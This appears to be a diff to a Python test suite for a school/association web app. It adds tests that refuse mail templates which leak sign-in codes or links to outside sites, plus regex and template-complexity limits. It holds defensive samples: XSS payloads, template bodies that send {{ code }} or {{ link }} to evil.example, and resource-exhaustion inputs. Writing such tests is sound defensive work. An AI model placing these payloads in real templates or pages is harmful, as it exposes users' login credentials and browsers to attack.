@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import time
 from dataclasses import replace
 from typing import Any
 
@@ -11,8 +12,11 @@ from amicale import DB, post_mail
 from amicale.access import roles
 from amicale.actor import SYSTEM
 from amicale.errors import Refusal
+from amicale.here import HERE
 from amicale.i18n import translate, translate_plural, translator
+from amicale.mail.personal import Astray
 from amicale.mail.sending import send_due
+from amicale.mail.templates import rendered_own
 from amicale.members.service import merge
 from amicale.portal.markdown import markdown
 from amicale.portal.rendering import gettext, ngettext
@@ -37,6 +41,21 @@ ATTACKS = (
     "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "[x](data:text/html,x)",
     "![x](https://evil.example/x.png)", "<https://x.example/<script>>", "[x](//evil.example)", "[x](/\\evil.example)",
     "[x](vbscript:x)", "<a href=javascript:x>", "[x]: javascript:alert(1)\n\n[x]", "[x](/%5Cevil.example)",
+)  # fmt: skip
+STOLEN = (
+    "S\n\n[Sign in](https://evil.example/?t={{ link }})", "S\n\n[Sign in](https://evil.example/{{ code }})",
+    "S {{ code }}\n\n<https://evil.example/{{ code }}>", "S\n\nhttps://evil.example/{{ code }}",
+    "S\n\nevil.example/**{{ code }}**", "S\n\n{{ code }}.evil.example", "evil.example/{{ code }}\n\nx",
+    "S\n\n[x](https://evil.example/{% if name %}{{ code }}{% endif %})",
+    "S\n\n[x](mailto:a@evil.example?body={{ code }})",
+    "S\n\n{{ 'https://evil.example/' }}{{ link }}", "S\n\n    https://evil.example/{{ code }}",
+    "S\n\n```\nevil.example/{{ code }}\n```", "S\n\n[x](https://evil.example/{{ code|lines }})",
+    "S\n\n- [x](<https://evil.example/{{ link|lines }}>)", "S\n\n[x]({{ link }}@evil.example) {{ code }}@evil.example",
+)  # fmt: skip
+KEPT = (
+    GOOD, "S\n\n`{{ code }}`", "S\n\nCode:{{ code }}.\n\n({{ link }})", "S\n\n**{{ code }}**, or <{{ link }}>.",
+    "S\n\n{% if name %}[A]({{ link }}){% else %}[B]({{ link }}){% endif %}\n\n[Us](https://school.example/help)",
+    "S\n\n[{{ link }}]({{ link }})", "S\n\n> {{ link }}\n\nwww.school.example",
 )  # fmt: skip
 
 
@@ -66,6 +85,11 @@ class TestLegal:
                 wrong = await school.refusal(writer, LEGAL, slug=slug, body=body, publish=True)
                 assert wrong["reason"] == "PLACES_LEFT"
         assert await legal.shown("notice", "fr") is None
+
+    def test_finds_open_places_in_no_time(self) -> None:
+        begun = time.perf_counter()
+        assert legal.open_places("[" * 100_000 + "[[a\nplace]]" + "[[x" * 30_000) == ["a place"]
+        assert time.perf_counter() - begun < 1
 
     async def test_is_public_when_published_and_gone_when_withdrawn(self, school: School, browser: Browser) -> None:
         anne = await school.person("Anne", email="anne@example.org")
@@ -174,12 +198,27 @@ class TestMailText:
             "{{ code }} {{ namespace() }}", "{{ code }} {{ name ~ name }}", "{{ code }} {{ 2**99 }}", "x" * 20_001,
             "{{ code }} {% for x in minutes recursive %}{{ loop(x) }}{% endfor %}", "{{ code }} {{ lipsum }}",
             "{{ code }} {% filter upper %}{% endfilter %}", "{{ code }} {% do name.x %}",
+            "{{ code }} {{ minutes|number('xx') }}", "{{ code }} {{ minutes|long_date(locale, locale) }}",
+            f"{{{{ code }}}} {{{{ {'(' * 3000}code{')' * 3000} }}}}",
+            f"{{{{ code }}}} {'{% if name %}' * 500}{'{% endif %}' * 500}",
         ],
     )  # fmt: skip
     async def test_refuses_what_the_mail_does_not_have(self, school: School, body: str) -> None:
         with pytest.raises(Refusal) as refusal:
             check_mail_text(school.assembly.mails[KIND], body)
         assert refusal.value.field == "body"
+
+    async def test_leads_no_personal_link_or_code_to_another_site(self, school: School) -> None:
+        values = {"code": "482913", "link": HERE.link("/sign-in/t0ken"), "name": "Anne", "minutes": 10}
+        for body in STOLEN:
+            with pytest.raises(Refusal) as refusal:
+                check_mail_text(school.assembly.mails[KIND], body)
+            assert refusal.value.field == "body"
+            with pytest.raises(Astray):
+                rendered_own(body, "en", values)
+        for body in KEPT:
+            check_mail_text(school.assembly.mails[KIND], body)
+            rendered_own(body, "en", values)
 
     async def test_wants_a_fresh_proof_and_its_permission(self, school: School, writer: Any) -> None:
         wrong = await school.refusal(replace(writer, confirmed_at=None), MAIL, kind=KIND, body=GOOD, publish=True)
